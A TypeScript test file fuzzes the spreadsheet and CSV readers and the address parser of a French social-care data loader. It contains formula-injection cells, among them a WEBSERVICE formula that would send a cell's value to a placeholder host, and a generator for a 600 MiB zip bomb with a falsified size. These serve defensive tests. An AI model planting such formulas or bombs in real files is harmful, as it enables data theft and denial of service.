// Hostile and broken input, against the public readers: readExport (csv and xlsx, through the
// zip guard) and the address parser. Properties with fast-check: whatever the bytes, the
// reader gives rows or an InputError in French, never another error, and never prints the
// personal values it was given; the parser never throws. Plus huge cells, formula cells, and
// zip bombs refused within bounded memory.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { createDeflateRaw } from "node:zlib";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { InputError } from "../../loaders/contracts.ts";
import { readExport } from "../../loaders/exports/read-export.ts";
import { parseAddress } from "../../loaders/geocode/parse-address.ts";
import { useTempDir } from "../helpers/temp-dirs.ts";

const dir = useTempDir("abs-hostile-");
let counter = 0;
const fresh = (ext: string) => join(dir, `export-${counter++}${ext}`);

const SECRET_ID = "DOS-5581234";
const SECRET_ADDRESS = "29 impasse Quintessence";
const HEADER = ["Index dossier", "Adresse complète", "Sexe", "Date de naissance", "Situation familiale", "GIR"];

/** Reads, and returns what came out: rows, or an InputError; anything else fails the test. */
async function outcome(path: string): Promise<{ rows: number; messages: string[] } | InputError> {
  try {
    const parsed = await readExport(path, { dataset: "apa-domicile" });
    return { rows: parsed.rows.length, messages: parsed.rejections.map((r) => r.message) };
  } catch (error) {
    if (error instanceof InputError) return error;
    throw error;
  }
}

const textOf = (o: Awaited<ReturnType<typeof outcome>>) =>
  o instanceof InputError ? o.message : o.messages.join("\n");

async function workbookBytes(rows: unknown[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet("APA");
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

describe("address parser under fuzzing", () => {
  it("never throws, and returns a coherent shape for any text", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: "grapheme", maxLength: 200 }),
          fc.string({ unit: "binary", maxLength: 200 }),
          fc
            .array(
              fc.constantFrom(
                "12",
                "bis",
                "rue",
                "av.",
                "13100",
                "AIX",
                "-",
                ",",
                "bât.",
                "BP",
                "CEDEX",
                "Résidence",
                "lot",
                "14-16",
                "0",
                "99999",
              ),
            )
            .map((t) => t.join(" ")),
        ),
        (text) => {
          const parsed = parseAddress(text);
          expect(parsed.number === null || (Number.isInteger(parsed.number) && parsed.number >= 0)).toBe(true);
          expect(parsed.postcode === null || /^\d{5}$/.test(parsed.postcode)).toBe(true);
          expect(Array.isArray(parsed.streetTokens)).toBe(true);
        },
      ),
      { numRuns: 3000 },
    );
  });

  it("also takes split addresses with arbitrary parts", () => {
    fc.assert(
      fc.property(
        fc.record({
          number: fc.option(fc.string()),
          street: fc.option(fc.string()),
          postcode: fc.option(fc.string()),
          commune: fc.option(fc.string()),
        }),
        (parts) => {
          const raw = Object.fromEntries(Object.entries(parts).filter(([, v]) => v !== null)) as Record<string, string>;
          expect(() => parseAddress(raw)).not.toThrow();
        },
      ),
      { numRuns: 2000 },
    );
  });

  it("a huge cell (1 MB of words and digits) is parsed without blowing the stack", () => {
    const huge = `12 ${"rue de la Paix ".repeat(70_000)} 13100 Aix`;
    expect(() => parseAddress(huge)).not.toThrow();
  });
});

describe("export readers under fuzzing", () => {
  it("CSV: arbitrary cells around personal values give rows or an InputError, never echoing a value", async () => {
    const cell = fc.oneof(
      fc.string({ unit: "grapheme", maxLength: 40 }),
      fc.constantFrom(SECRET_ID, SECRET_ADDRESS, "=1+1", "@SOMME(A1)", '"', ";", "\r\n", "31/02/1931", "5"),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(cell, { minLength: 0, maxLength: 8 }), { maxLength: 15 }),
        fc.boolean(),
        async (rows, withHeader) => {
          const path = fresh(".csv");
          const lines = withHeader ? [HEADER, ...rows] : rows;
          writeFileSync(path, lines.map((l) => l.join(";")).join("\r\n"));
          const text = textOf(await outcome(path));
          expect(text).not.toContain(SECRET_ID);
          expect(text).not.toContain(SECRET_ADDRESS);
        },
      ),
      { numRuns: 150 },
    );
  });

  it("XLSX: a real workbook truncated or with flipped bytes gives rows or an InputError", async () => {
    const valid = await workbookBytes([
      HEADER,
      [SECRET_ID, `${SECRET_ADDRESS} 13100 Aix-en-Provence`, "F", "14/07/1931", "Isolé(e)", 3],
    ]);
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.integer({ min: 0, max: valid.length - 1 }).map((cut) => ({ cut, flips: [] as [number, number][] })),
          fc
            .array(fc.tuple(fc.integer({ min: 0, max: valid.length - 1 }), fc.integer({ min: 1, max: 255 })), {
              minLength: 1,
              maxLength: 12,
            })
            .map((flips) => ({ cut: valid.length, flips })),
        ),
        async ({ cut, flips }) => {
          const bytes = Buffer.from(valid.subarray(0, cut));
          for (const [at, mask] of flips) if (at < bytes.length) bytes[at] ^= mask;
          const path = fresh(".xlsx");
          writeFileSync(path, bytes);
          const text = textOf(await outcome(path));
          expect(text).not.toContain(SECRET_ID);
          expect(text).not.toContain("Quintessence");
        },
      ),
      { numRuns: 120 },
    );
  });

  it("huge cells (a 2 MB address in an xlsx, a 5 MB field in a csv) are rejected or read, never a crash", async () => {
    const hugeAddress = `${SECRET_ADDRESS} ${"x".repeat(2 * 2 ** 20)}`;
    const xlsx = fresh(".xlsx");
    writeFileSync(
      xlsx,
      await workbookBytes([
        HEADER,
        [SECRET_ID, hugeAddress, "F", "14/07/1931", "Isolé(e)", 3],
        ["DOS-2", "4 rue Mignet 13100 Aix", "M", "02/03/1940", "Couple", 2],
      ]),
    );
    const fromXlsx = await outcome(xlsx);
    expect(textOf(fromXlsx)).not.toContain("Quintessence");
    const csv = fresh(".csv");
    writeFileSync(
      csv,
      [
        HEADER.join(";"),
        [SECRET_ID, "4 rue Mignet", "F", `${"9".repeat(5 * 2 ** 20)}`, "Isolé(e)", "3"].join(";"),
      ].join("\r\n"),
    );
    expect(textOf(await outcome(csv))).not.toContain(SECRET_ID);
  });

  it("formula cells in an xlsx are read as their cached values, never evaluated", async () => {
    const path = fresh(".xlsx");
    writeFileSync(
      path,
      await workbookBytes([
        HEADER,
        [
          "DOS-3",
          "4 rue Mignet 13100 Aix",
          "F",
          "14/07/1931",
          "Isolé(e)",
          { formula: 'WEBSERVICE("http://exemple.invalid/"&A2)', result: 3 },
        ],
        ["DOS-4", '=HYPERLINK("http://exemple.invalid")', "M", "02/03/1940", "Couple", 2],
      ]),
    );
    const result = await outcome(path);
    expect(result).not.toBeInstanceOf(InputError);
    expect((result as { rows: number }).rows).toBeGreaterThanOrEqual(1);
  });
});

/** `size` bytes of zeros, deflated chunk by chunk by native zlib (never held whole). */
async function deflatedZeros(size: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 1 });
  const chunks: Buffer[] = [];
  deflate.on("data", (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve, reject) => deflate.on("end", resolve).on("error", reject));
  const zeros = Buffer.alloc(16 * 2 ** 20);
  for (let written = 0; written < size; written += zeros.length) {
    if (!deflate.write(zeros.subarray(0, Math.min(zeros.length, size - written))))
      await new Promise((resolve) => deflate.once("drain", resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat(chunks);
}

/**
 * The fields a local header and its central-directory entry both carry, in the same order from
 * `at` (the directory's entry has them 2 bytes further, after its « version made by »): version
 * needed, method, compressed size, declared size, name length.
 */
function writeEntryFields(
  header: Buffer,
  at: number,
  e: { data: Buffer; method: number; size: number },
  nameLength: number,
): void {
  header.writeUInt16LE(20, at);
  header.writeUInt16LE(e.method, at + 4);
  header.writeUInt32LE(e.data.length, at + 14);
  header.writeUInt32LE(e.size, at + 18);
  header.writeUInt16LE(nameLength, at + 22);
}

/** A zip holding a fake workbook whose big entry is `data`, declared as `declared` bytes. */
function zipBomb(data: Buffer, declared: number): Buffer {
  const entries = [
    { name: "[Content_Types].xml", data: Buffer.from("<Types/>"), method: 0, size: 8 },
    { name: "xl/worksheets/sheet1.xml", data, method: 8, size: declared },
  ];
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    writeEntryFields(local, 4, e, name.length);
    const dirEntry = Buffer.alloc(46);
    dirEntry.writeUInt32LE(0x02014b50, 0);
    dirEntry.writeUInt16LE(20, 4); // version made by
    writeEntryFields(dirEntry, 6, e, name.length);
    dirEntry.writeUInt32LE(offset, 42);
    parts.push(local, name, e.data);
    central.push(dirEntry, name);
    offset += 30 + name.length + e.data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, directory, end]);
}

describe("zip bombs (loaders/exports/zip-guard.ts, through readExport)", () => {
  it("a 600 MiB bomb (ratio ~1000:1) is refused, honest or lying about its size, within bounded memory", async () => {
    const gib = 600 * 2 ** 20;
    const data = await deflatedZeros(gib);
    for (const [declared, rule] of [
      [gib, "xlsx-trop-volumineux"],
      [1024, "xlsx-bombe-zip"],
    ] as const) {
      const path = fresh(".xlsx");
      writeFileSync(path, zipBomb(data, declared));
      global.gc?.();
      const before = process.memoryUsage();
      const result = await outcome(path);
      const grown = process.memoryUsage().rss - before.rss;
      expect(result).toBeInstanceOf(InputError);
      expect((result as InputError).rule).toBe(rule);
      expect((result as InputError).message).toMatch(/classeur xlsx refusé/);
      // A bomb inflated in memory would need 600 MiB; the guard never holds more than a chunk.
      expect(grown).toBeLessThan(200 * 2 ** 20);
    }
  });
});
